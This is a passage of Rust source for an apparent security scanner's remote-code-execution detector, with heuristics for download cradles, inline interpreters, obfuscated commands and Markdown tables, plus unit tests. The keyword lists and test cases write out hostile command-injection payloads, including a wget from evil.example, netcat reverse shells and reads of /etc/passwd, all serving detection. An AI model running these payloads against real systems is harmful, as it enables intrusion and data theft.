        // PowerShell's download cradle: fetch a script, run it.
        "iex(",
        "iex (",
        "invoke-expression",
        "downloadstring(",
    ]
    .iter()
    .any(|k| contains_word_start(lower, k))
        || risky_inline(lower)
}

/// [`risky_shown`] for a block a document shows (a fence, a literal block, a script): a
/// decoding in it (`base64 -d <<< 'aGVsbG8='`, `base64 -d key.b64 > key.pem`) prints or
/// writes a file. A payload runs what it decodes, through a shell (`| sh`, risky on its
/// own), a substitution or `eval`; with any of those in the block it still counts. A code
/// span in a sentence is a substitution itself, and stays [`risky_shown`]'s.
fn risky_block(lower: &str) -> bool {
    if contains_word_start(lower, "base64 -d") {
        let code = lower.replace("```", "");
        if !code.contains("$(") && !code.contains('`') && !contains_word_start(&code, "eval") {
            return risky_shown(&code.replace("base64 -d", "base64"));
        }
    }
    risky_shown(lower)
}

/// [`risky_shell`] for code a document shows (a fence, a script, a code span in a sentence):
/// an installer's one-liner is what a README or a ticket shows, a download from a named
/// HTTPS host piped into a shell (`curl -fsSL https://get.docker.com | sh`, rustup's, nvm's,
/// uv's), so it is left out. A download over plain HTTP or from an address, one the line
/// does anything else with, and every other risky shell still count.
fn risky_shown(lower: &str) -> bool {
    if !risky_shell(lower) {
        return false;
    }
    if !lower.contains("|sh") && !lower.contains("| sh") && !lower.contains("bash") {
        return true;
    }
    let mut rest = String::with_capacity(lower.len());
    for line in lower.split_inclusive('\n') {
        rest.push_str(install_one_liner(line).map_or(line, |_| "\n"));
    }
    risky_shell(&rest)
}

/// A line that is an installer's one-liner: `curl` or `wget`, options, one `https://` URL
/// whose host is a name, piped into `sh` or `bash` (with the shell's own options, `-s --
/// -y`), nothing else chained. What the shell then runs is the download, a file the
/// request does not carry.
fn install_one_liner(line: &str) -> Option<()> {
    let line = line.trim();
    let line = line.strip_prefix("$ ").unwrap_or(line);
    let (fetch, shell) = line.split_once('|')?;
    let mut words = fetch.split_whitespace();
    if !matches!(words.next()?, "curl" | "wget") {
        return None;
    }
    let mut urls = 0;
    for word in words {
        let word = word.trim_matches(['\'', '"']);
        if word.contains("://") {
            let host = word.strip_prefix("https://")?.split(['/', ':']).next()?;
            let tld = host.rsplit('.').next()?;
            if !host.contains('.') || tld.len() < 2 || !tld.bytes().all(|b| b.is_ascii_lowercase())
            {
                return None;
            }
            urls += 1;
        } else if !(word.starts_with('-') || word.starts_with("=https")) {
            return None;
        }
    }
    // `| sudo -E bash -` (NodeSource's): sudo and its options before the shell.
    let mut shell = shell.split_whitespace().peekable();
    if shell.next_if_eq(&"sudo").is_some() {
        while shell.next_if(|w| w.starts_with('-')).is_some() {}
    }
    let program = shell.next()?;
    (urls == 1 && matches!(program, "sh" | "bash") && shell.all(|w| w.starts_with('-')))
        .then_some(())
}

/// Does `text` hold `key`, where a key that starts with a letter starts a word (`sh -i` is
/// not in `ssh -i key.pem`, nor `nc -e` in `rsync -e ssh`)?
fn contains_word_start(text: &str, key: &str) -> bool {
    if !key.starts_with(|c: char| c.is_ascii_alphabetic()) {
        return text.contains(key);
    }
    let b = text.as_bytes();
    text.match_indices(key)
        .any(|(at, _)| at == 0 || !b[at - 1].is_ascii_alphanumeric())
}

/// An inline interpreter (`python -c`, `perl -e`, `ruby -e`) whose program opens a socket,
/// runs a command or decodes one. `python -c "import sys; print(sys.version)"` in a bug
/// report prints a version. The program is what follows the flag: its quoted argument
/// (over lines, if the quote spans them) or the rest of its line, so a script's shebang
/// (`#!/usr/bin/env bash`) or a word elsewhere (`empty`) is not read as its program.
fn risky_inline(lower: &str) -> bool {
    const INLINE: [&str; 6] = [
        "python -c",
        "python3 -c",
        "python2 -c",
        "perl -e",
        "ruby -e",
        "php -r",
    ];
    const REACHES: [&str; 21] = [
        "socket",
        "subprocess",
        "os.system",
        "os.popen",
        "os.exec",
        "os.dup2",
        "pty",
        "exec(",
        "eval(",
        "__import__",
        "system(",
        "popen",
        "base64",
        "urllib",
        "/bin/",
        "tcpsocket",
        "fsockopen",
        "io::socket",
        "shell_exec",
        "passthru",
        "`",
    ];
    INLINE.iter().any(|k| {
        lower.match_indices(k).any(|(at, _)| {
            let rest = lower[at + k.len()..].trim_start_matches([' ', '\t']);
            let program = match rest.chars().next() {
                Some(q @ ('"' | '\'')) => {
                    let body = &rest[1..];
                    &body[..body.find(q).unwrap_or(body.len())]
                }
                _ => &rest[..rest.find('\n').unwrap_or(rest.len())],
            };
            REACHES.iter().any(|r| contains_word_start(program, r))
        })
    })
}

/// A Markdown table (`| id | name |`, `|---|---|`, `| 1 | Tea |`) with its pipes written
/// as spaces, when every line with a pipe starts and ends with one and a separator row is
/// there, or a Jira table (`||Field||Value||` heading rows such as `|id|42|`). Its cells are still read. A shell cannot run such a block: the first row ends
/// with a pipe and the next line starts with one, a syntax error before anything runs.
fn markdown_table_pipes_removed(text: &str) -> Option<String> {
    let (mut separator, mut header, mut rows) = (false, false, 0);
    for line in text.lines().map(str::trim).filter(|l| l.contains('|')) {
        if line.len() < 2 || !line.starts_with('|') || !line.ends_with('|') {
            return None;
        }
        separator |=
            line.contains("---") && line.bytes().all(|b| matches!(b, b'|' | b'-' | b':' | b' '));
        // Jira's and Confluence's wiki markup heads a table with `||Field||Value||`.
        header |= rows == 0 && line.len() > 4 && line.starts_with("||") && line.ends_with("||");
        rows += 1;
    }
    (separator || (header && rows >= 2)).then(|| {
        text.lines()
            .map(|l| {
                if l.trim().starts_with('|') {
                    l.replace('|', " ")
                } else {
                    l.to_string()
                }
            })
            .collect::<Vec<_>>()
            .join("\n")
    })
}

/// Does `s` hold a dotted-quad IPv4 literal?
fn has_ipv4(s: &str) -> bool {
    s.split(|c: char| !(c.is_ascii_digit() || c == '.'))
        .any(|w| {
            let parts: Vec<&str> = w.split('.').collect();
            parts.len() == 4 && parts.iter().all(|p| !p.is_empty() && p.len() <= 3)
        })
}

impl Default for Rce {
    fn default() -> Self {
        Rce::new()
    }
}

impl Detector for Rce {
    fn name(&self) -> &'static str {
        "rce"
    }

    fn inspect(&self, value: &Value, out: &mut Vec<Signal>) {
        let (text, c) = (value.text(), value.classes);
        // A Markdown table's pipes divide cells (`| id | name |`), not commands.
        let untabled;
        let (text, c) = match (c.any(bc::PIPE) && c.any(bc::NEWLINE))
            .then(|| markdown_table_pipes_removed(text))
            .flatten()
        {
            Some(t) => {
                untabled = t;
                (
                    untabled.as_str(),
                    palisade_normalize::ByteClasses::of(&untabled),
                )
            }
            None => (text, c),
        };
        let in_path = value.place.kind == palisade_types::PlaceKind::Path;
        let evidence = value.text();
        let mut emit =
            |conf, why| out.push(signal("rce", Category::Rce, conf, value, evidence, why));
        // Process substitution (`<(cat file)`) needs `<` or `>` and a parenthesis.
        let proc_sub = c.any(bc::LT | bc::GT) && c.any(bc::LPAREN);
        // No-ops need `"`, `\\`, `$`, a backtick or a process substitution, or a doubled `'`
        // (a lone apostrophe is prose: one pass over the bytes, not a search per no-op).
        let noop_bytes = c.any(bc::DQUOTE | bc::BACKSLASH | bc::DOLLAR | bc::BACKTICK)
            || proc_sub
            || (c.any(bc::SQUOTE) && text.as_bytes().windows(2).any(|w| w == b"''"))
            || (c.any(bc::SQUOTE) && text.bytes().filter(|&b| b == b'\'').count() >= 2)
            || text.contains('^');
        if noop_bytes && !in_path {
            let unset = || {
                (c.any(bc::DOLLAR) && c.any(bc::SLASH))
                    .then(|| unset_variables(text))
                    .flatten()
            };
            if let Some(conf) = obfuscated_command(text).or_else(unset) {
                emit(conf, "command obfuscated with quotes or escapes");
                return;
            }
        }
        // `${PATH:0:1}` is `/` to the shell (`|${PATH:0:1}bin${PATH:0:1}cat …`): judged with
        // the slashes it spells.
        if !in_path && c.any(bc::DOLLAR) && crate::has(text, ":0:1}") {
            let spelled = slash_expansions(text);
            if spelled != text {
                if let Some(conf) = self.check(&spelled, value.place.kind, true) {
                    emit(conf, "command spelled with shell expansions");
                    return;
                }
            }
        }
        // `$'\x69\x64'` is `id` to bash: judged as the words it spells.
        if !in_path && c.any(bc::DOLLAR) && c.any(bc::SQUOTE) && crate::has(text, "$'") {
            if let Some(spelled) = ansi_c_expansions(text) {
                if let Some(conf) = self.check(&spelled, value.place.kind, true) {
                    emit(conf, "command spelled with shell expansions");
                    return;
                }
            }
        }
        // Shell constructs that need no separator: a function definition (Shellshock, fork
        // bombs), a brace expansion, mail commands after a CRLF, SQLite dot-commands.
        if !in_path {
            let mut found = None;
            if c.any(bc::LPAREN) && c.any(bc::LBRACE) {
                found = shellshock(text).or_else(|| fork_bomb(text));
            }
            if found.is_none() && c.any(bc::LBRACE) && !c.any(bc::SPACE) {
                found = brace_command(text);
            }
            if found.is_none() && c.any(bc::NEWLINE) {
                found = mail_command(text);
            }
            if found.is_none() && c.any(bc::SEMI) {
                found = sqlite_dot_command(text);
            }
            if let Some(conf) = found {
                emit(conf, "shell construct");
                return;
            }
        }
        if c.any(bc::PERCENT) && !in_path && ruby_command_literal(text) {
            emit(0.85, "Ruby command literal");
            return;
        }
        // Separators and substitutions, or the flag or path a bare command line needs.
        let separators = bc::SEMI | bc::PIPE | bc::AMP | bc::NEWLINE | bc::BACKTICK | bc::DOLLAR;
        let escaped_break = c.any(bc::BACKSLASH) && crate::has(text, "\\n");
        let separated = c.any(separators) || proc_sub || escaped_break;
        if !separated && !c.any(bc::DASH | bc::SLASH | bc::BACKSLASH | bc::COLON) {
            // A cmd.exe loop or condition needs none of those.
            if c.any(bc::LPAREN) || starts_if(text) {
                if let Some(conf) = windows_cmd(text) {
                    emit(conf, "cmd.exe loop or condition");
                }
            }
            return;
        }
        if let Some(conf) = self.check(text, value.place.kind, separated) {
            emit(conf, "command after a shell separator or substitution");
            return;
        }
        // A payload written for a query string, where `+` is a space, arrives encoded once
        // more (`%2B%7C%2Bdir%2Bc%3A%2F` is `+|+dir+c:/`): read the pluses as the spaces the
        // attacker meant, once, when there is a separator for them to surround.
        // Without a separator, a value with no space at all (`+dir+c:/`) is read so too: the
        // bare command line then still needs its system path.
        // A regular expression's `+` is a quantifier (`^tag:.+|Name|Type`,
        // `((http|https|ftp)://\S+`). A unified diff's `+` marks its added lines and counts
        // them in its hunk headers (`@@ -1,7 +1,5 @@`): read as spaces, the diff would no
        // longer be one.
        if (separated || !c.any(bc::SPACE))
            && !in_path
            && c.any(bc::PLUS)
            && !(c.any(bc::PIPE) && (alternatives(text) || glued_group(text)))
            && (!crate::has(text, "@@ -") || crate::unified_diffs(text).is_empty())
        {
            let spaced = text.replace('+', " ");
            if let Some(conf) = self.check(&spaced, value.place.kind, separated) {
                emit(conf, "command after a shell separator or substitution");
            }
        }
    }
}

/// A usage line's placeholder where an argument goes (`pip3 <command> [options]`, `curl
/// <url>`, a man page's synopsis pasted in a ticket): a name in angle brackets, then a space,
/// `[`, `...` or the line's end. To a shell that reads a file named so into the command and
/// then sends its output to the next word, or to nothing (a syntax error); no probe is
/// written so.
fn usage_placeholder(next: &str) -> bool {
    let Some(inner) = next.strip_prefix('<') else {
        return false;
    };
    let name = inner
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-')))
        .unwrap_or(inner.len());
    let after = &inner[name..];
    name > 0
        && inner.starts_with(|c: char| c.is_ascii_alphabetic())
        && after.strip_prefix('>').is_some_and(|t| {
            t.is_empty() || t.starts_with([' ', '\t', '\n', '\r', '[', ',']) || t.starts_with("...")
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::value;

    #[test]
    fn a_shell_reads_quotes_to_their_end() {
        for open in ["type' by guess_type()", "a \"b", "echo 'it\\'s'"] {
            assert!(unterminated_quote(open), "{open}");
        }
        for closed in [
            "id",
            "id #'",
            "id \\'",
            "echo \"'\"",
            "echo 'a\"b'",
            "a #'x\nb",
        ] {
            assert!(!unterminated_quote(closed), "{closed}");
        }
    }

    fn signals(s: &str) -> Vec<Signal> {
        let mut out = Vec::new();
        Rce::new().inspect(&value(s), &mut out);
        out
    }

    /// Would the default threshold (0.7) block it?
    fn hit(s: &str) -> bool {
        signals(s).iter().any(|s| s.confidence >= 0.7)
    }

    /// Regression: the word after leading brackets was sliced by length, not position, and a
    /// multi-byte character there panicked (found by the engine's property test).
    #[test]
    fn leading_brackets_and_multibyte_text_do_not_panic() {
        for s in ["(é -x", "{ü /etc/passwd", "'ñ -la", "(((/bin/sh"] {
            let _ = signals(s);
        }
        assert!(hit("(cat /etc/passwd"));
    }

    #[test]
    fn ansi_c_quotes_expand_by_code_and_keep_other_characters_whole() {
        assert_eq!(
            ansi_c_expansions(r"x;$'\x69\151'd é $'ü\é\x7'"),
            Some("x;iid é ü\\é\x07".to_string())
        );
        assert_eq!(ansi_c_expansions("it's $5 and $'unclosed"), None);
        assert_eq!(ansi_c_expansions("a$'b'c"), Some("abc".to_string()));
    }

    #[test]
    fn flags_alone_are_reported_below_the_block_threshold() {
        let s = signals("ls -la");
        assert_eq!(s.len(), 1);
        assert!(s[0].confidence < 0.7);
    }

    #[test]
    fn command_chains_are_caught() {
        for s in [
            "; cat /etc/passwd",
            "127.0.0.1 | id",
            "x && wget http://evil.example/a.sh",
            "`whoami`",
            "$(id)",
            "a;/bin/sh -i",
            "1 | nc 10.0.0.1 4444 -e /bin/sh",
            "test\nls -la",
            // Regressions from the CRS and HttpParams corpora.
            "' ; /bin/sleep 31 ;",
            "|usr/bin/id",
            "cat /etc/passwd",
            "x; ping.exe -n 31 127.0.0.1",
            "/usr/bin/id -a",
            // A SQLite dot-command whose line break arrives as a literal `\n`.
            r";\n.system nc 10.10.10.1 6666 -e sh\n",
            r#"";\n. shell nc 10.10.10.1 6666 -e sh"#,
            // Unset variables between a path's pieces; PHP's `${…}` around a substitution.
            "$u/bin$u/cat$u $u/etc$u/passwd$u",
            "$aaaaaa/bin$bbbbbb/cat$ccccccc $dddddd/etc$eeeeeee/passwd$fffffff",
            "${passthru(print(`echo ASBMQM;echo $((65+46));echo ASBMQM`);#ASBMQM",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn escaped_line_breaks_separate_commands() {
        // Literal backslash-n, as payload lists write them (session 15, SecLists).
        for s in [r";id\n", r"\n/usr/bin/id\n", r"\nid|", r"a;id\n"] {
            assert!(hit(s), "missed: {s}");
        }
        for s in [
            r"C:\new\tools\nc.txt",
            r"line one\nid card number",
            r"D:\netcat\readme.md",
        ] {
            assert!(!hit(s), "false positive: {s}");
        }
    }

    #[test]
    fn markdown_and_prose_stay_clean() {
        for s in [
            "Use `setTimeout` to defer",
            "Tom & Jerry",
            "salt; pepper; cat food",
            "this | that",
            "see `README.md`",
            "a && b are both true",
            "cat lovers unite",
            "find the best route",
            "sleep 8 hours; exercise daily",
            // mgm's false positives: a dash in a name, a list of words.
            "LC & NC - Boys038-XL.jpg",
            "mammal;cat;ears",
            // Variables where a script builds a path's segments.
            "$DESTDIR$PREFIX/bin/$NAME",
            "cp $SRC/bin/tool $HOME/bin/",
            // Multibyte letters beside `$` and `/` (a panic once).
            "${${lower:jnd}${lower:${upper:ı}}:ldap/x}",
            "ı$ı/ı$a/é$b/ü",
            // A span in a sentence, spaces around it.
            "Run `make clean; make` from the root",
            // Flags alone are documentation, logged but not blocked (confidence below 0.7).
            "ls -la",
        ] {
            assert!(!hit(s), "false positive: {s}");
        }
    }
}
